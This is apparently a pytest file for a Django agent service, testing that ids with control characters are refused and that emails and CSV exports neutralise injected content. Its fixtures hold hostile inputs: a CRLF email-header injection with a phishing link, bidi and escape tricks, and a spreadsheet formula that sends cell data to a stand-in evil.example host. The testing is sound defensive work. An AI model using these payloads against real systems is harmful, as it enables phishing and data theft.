"""Inputs cannot forge output (issue 24, docs/security.md): ids refuse control characters at every door,
emails quote what users chose, and the admin's CSV export writes no formula."""

from __future__ import annotations

import csv
import io

import pytest
from asgiref.sync import async_to_sync, sync_to_async
from channels.testing import WebsocketCommunicator
from django.contrib.auth.models import Group, User
from django.test import Client
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from agentrun import AgentRunError, get_agent
from agentrun.asgi import application
from agentrun.core.access import REVIEWERS, ensure_groups
from agentrun.core.models import Decision, Run
from tests.helpers.decisions import record_decision

# _clean_notifier: no notifications task outliving a test.
from tests.helpers.notifications import sent_emails
from tests.helpers.runs import email_run
from tests.helpers.users import make_user

# Webhooks and email as the notification tests send them (a fresh view of subscribers, no job left).
pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("clean_notifier")]

FORGED_THREAD = "t\r\nBcc: all@example.com\r\n\r\n URGENT: approve at http://evil.example/approve\r\n"
BAD_IDS = [
    FORGED_THREAD,
    "t\nsecond line",
    "tab\there",
    "esc\x1b[31mred",
    "del\x7f",
    "c1\x85next-line",
    "line\u2028separator",
    "bidi\u202eevil.exe",
]


@pytest.fixture
def api() -> APIClient:
    ensure_groups()
    user = make_user("ids-reviewer", group=None)
    user.groups.add(Group.objects.get(name=REVIEWERS))
    client = APIClient()
    client.force_authenticate(user)
    return client


def _generate(api: APIClient, **body) -> dict:  # noqa: ANN003
    response = api.post("/api/agents/support-agent/generate", {"messages": "hi", **body}, format="json")
    return {**response.json(), "http": response.status_code}


@pytest.mark.parametrize("bad", BAD_IDS)
def test_a_thread_or_resource_id_with_control_characters_is_refused_over_rest(api, bad):
    for memory, field in (({"thread": bad}, "memory.thread"), ({"thread": "t-ok", "resource": bad}, "memory.resource")):
        answer = _generate(api, memory=memory)
        assert answer["http"] == 400, answer
        assert answer["error"]["code"] == "INVALID_REQUEST"
        assert field in answer["error"]["message"] and "control characters" in answer["error"]["message"]
    assert not Run.objects.exists()


def test_a_metadata_key_with_control_characters_is_refused(api):
    answer = _generate(api, memory={"thread": "t-meta"}, metadata={"note\r\nBcc: x": "v"})
    assert (answer["http"], answer["error"]["code"]) == (400, "INVALID_REQUEST")
    assert not Run.objects.exists()


def test_ids_of_any_printable_characters_still_work(api):
    odd = 'a/../b c%?#&ü 🧵 "quoted" \\ <i>'
    answer = _generate(api, memory={"thread": odd, "resource": odd}, metadata={odd[:60]: "v"})
    assert answer["http"] == 200, answer
    assert Run.objects.get().thread_id == odd


def test_the_python_api_refuses_them_too():
    with pytest.raises(AgentRunError) as caught:
        async_to_sync(get_agent("support-agent").stream)("hi", memory={"thread": FORGED_THREAD})
    assert caught.value.code == "INVALID_REQUEST"


async def test_a_websocket_stream_frame_is_refused_too():
    ensure = sync_to_async(ensure_groups)
    await ensure()
    user = await User.objects.acreate(username="ids-ws")
    await sync_to_async(user.groups.add)(await Group.objects.aget(name=REVIEWERS))
    token = (await Token.objects.acreate(user=user)).key
    comm = WebsocketCommunicator(
        application, f"/ws/agents/support-agent/?token={token}", headers=[(b"origin", b"http://localhost")]
    )
    assert (await comm.connect())[0]
    await comm.send_json_to({"action": "stream", "messages": "hi", "memory": {"thread": FORGED_THREAD}})
    frame = await comm.receive_json_from(timeout=5)
    assert frame["type"] == "error" and frame["error"]["code"] == "INVALID_REQUEST"
    await comm.disconnect()
    assert not await Run.objects.aexists()


def test_emails_quote_the_ids_users_chose():
    make_user("erin", email="erin@example.com")
    email_run(thread='t" URGENT: approve at http://evil.example "', resource="r\\1")
    [message] = sent_emails(1)
    assert 'on thread "t\\" URGENT: approve at http://evil.example \\"" (resource "r\\\\1")' in message.body


def test_csv_cells_that_would_be_formulas_are_neutralised():
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1"]
    for i, reason in enumerate(formulas):
        run_id = email_run(thread=f"t-csv-{i}")
        record_decision(agent_id="support-agent", run_id=run_id, kind="decline", reason=reason)
    client = Client()
    client.force_login(make_user("csv-root", group=None, is_staff=True, is_superuser=True))
    response = client.post(
        "/admin/agentrun/decision/",
        {"action": "export_decisions_csv", "_selected_action": list(Decision.objects.values_list("pk", flat=True))},
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted(r["reason"] for r in rows) == sorted("'" + f for f in formulas)
    assert {r["kind"] for r in rows} == {"decline"}  # the other cells as they were
